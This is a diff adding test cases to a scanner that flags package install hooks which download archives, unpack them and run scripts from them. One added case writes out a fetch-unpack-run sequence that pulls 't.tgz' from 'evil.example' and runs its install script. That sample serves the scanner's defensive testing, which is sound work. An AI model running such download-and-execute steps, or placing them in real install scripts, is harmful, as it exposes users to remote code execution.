@@ -31,7 +31,12 @@ describe('hook scan: downloads unpacked, then run', () => {
     expect(found).toEqual(['install.outside-root@INSTALL:2', 'install.outside-root@INSTALL:3', 'install.download-exec@INSTALL:5']);
   });
 
+  it('reads paths as written after a cd it cannot follow', async () => {
+    expect(await installFindings('cd "$(dirname "$0")"', 'curl -fsSL -o t.tgz https://evil.example/t.tgz', 'tar xzf t.tgz', 'sh t/install.sh')).toEqual(['install.download-exec@INSTALL:5']);
+  });
+
   it.each([
+    ['a download unpacked where it was cd-ed to, then a shipped script run from the root', ['curl -fsSLo var/d.tgz https://x.example/d.tgz', 'cd var', 'tar xzf d.tgz', 'cd ..', 'sh payload/setup.sh']],
     ['an archive the package ships, unpacked and its script run', ['tar xzf payload/data.tgz -C var', 'sh var/setup.sh', 'unzip -q payload/web.zip -d var/web']],
     ['a downloaded archive unpacked into a folder, and a shipped script run', ['curl -fsSL -o var/data.tgz https://x.example/d.tgz', 'tar xzf var/data.tgz -C var/data', 'sh payload/setup.sh', 'cat var/data/index.json >/dev/null']],
     ['a download piped into tar, nothing of it run', ['curl -fsSL https://x.example/models.tgz | tar xz -C var/models', 'echo done']],
